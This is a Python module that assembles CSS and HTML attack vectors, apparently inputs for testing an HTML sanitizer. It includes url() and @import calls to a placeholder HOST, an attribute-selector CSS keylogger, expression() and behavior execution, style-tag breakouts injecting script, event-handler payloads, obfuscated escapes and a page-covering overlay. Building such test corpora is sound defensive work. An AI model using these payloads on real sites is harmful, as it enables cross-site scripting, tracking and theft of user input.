"""Styles that ask somebody, run something or cover the page."""

from __future__ import annotations

from vectors import writing
from vectors.writing import each, encoded, templates

STYLES = (
    each(
        '<p style="@1">x</p>',
        (
            "background:url(https://HOST/a)",
            "background:URL('https://HOST/a')",
            "background:u\\72l(https://HOST/a)",
            "background:\\75\\72\\6c(https://HOST/a)",
            "background:url(&quot;https://HOST/a&quot;)",
            "background/**/:url(https://HOST/a)",
            "background-image:image-set('https://HOST/a' 1x)",
            "background-image:-webkit-image-set(url(https://HOST/a) 1x)",
            "background:cross-fade(url(https://HOST/a),red)",
            "list-style:url(https://HOST/a);display:list-item",
            "content:url(https://HOST/a)",
            "cursor:url(https://HOST/a),auto",
            "border-image:url(https://HOST/a)",
            "mask:url(https://HOST/a)",
            "filter:url(https://HOST/a#b)",
            "clip-path:url(https://HOST/a#b)",
            "shape-outside:url(https://HOST/a)",
            "offset-path:url(https://HOST/a)",
            "--x:url(https://HOST/a);background:var(--x)",
            "src:url(https://HOST/a)",
            "width:expression(CALL)",
            "width:e/**/xpression(CALL)",
            "width:expr\\65 ssion(CALL)",
            "xss:\\65xpression(CALL)",
            "-moz-binding:url(https://HOST/a.xml#b)",
            "behavior:url(https://HOST/a.htc)",
            "behaviour:url(#default#time2)",
            "background:url(javascript:CALL)",
            "background:url(&#1;javascript:CALL)",
            "position:fixed;inset:0;z-index:2147483647",
            "animation:x 1s",
            "font-family:'<img src=x onerror=CALL>'",
            "color:red;}</style><script>CALL</script>",
        ),
    )
    + each(
        "<style>@1</style>x",
        (
            "@import 'https://HOST/a.css';",
            "@import url(https://HOST/a.css);",
            "@\\69mport 'https://HOST/a.css';",
            "*{background:url(https://HOST/a)}",
            "@font-face{font-family:x;src:url(https://HOST/a)}p{font-family:x}",
            "@namespace x url(https://HOST/a);",
            "@keyframes x{to{background:url(https://HOST/a)}}*{animation:x 1s}",
            "*{x:expression(CALL)}",
            "</style><script>CALL</script>",
            "<!--</style><script>CALL</script>-->",
            "input[value^=a]{background:url(https://HOST/a)}",
            "body::before{content:url(https://HOST/a)}",
        ),
    )
    + templates(
        "<link rel=stylesheet href=https://HOST/a.css>",
        "<link rel='alternate stylesheet' href=https://HOST/a.css>",
        "<link rel=stylesheet href='data:text/css,*{background:url(https://HOST/a)}'>",
        "<link rel=preload as=image href=https://HOST/a>",
        "<link rel=prefetch href=https://HOST/a>",
        "<link rel=preconnect href=https://HOST>",
        "<link rel=dns-prefetch href=https://HOST>",
        "<link rel=modulepreload href=https://HOST/a.js>",
        "<link rel=icon href=https://HOST/a>",
        "<link rel=import href=https://HOST/a>",
        "<link rel=manifest href=https://HOST/a>",
        "<link rel=prerender href=https://HOST/a>",
        "<link rel=stylesheet href=https://HOST/a onload=CALL onerror=CALL>",
        "<style onload=CALL></style>x",
        "<style media=x onload=CALL>",
        "<svg><style>*{background:url(https://HOST/a)}</style></svg>x",
        '<p style="background:url(\'https://HOST/a">x',
        "<xss style=animation:x onanimationstart=CALL>x</xss>",
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=CALL>x</p>",
        "<font style='background:url(https://HOST/a)' face='x\" onload=CALL'>x</font>",
    )
    + encoded("<p style='@'>x</p>", "background:url(https://HOST/a)", writing.decimal, writing.hexadecimal)
)
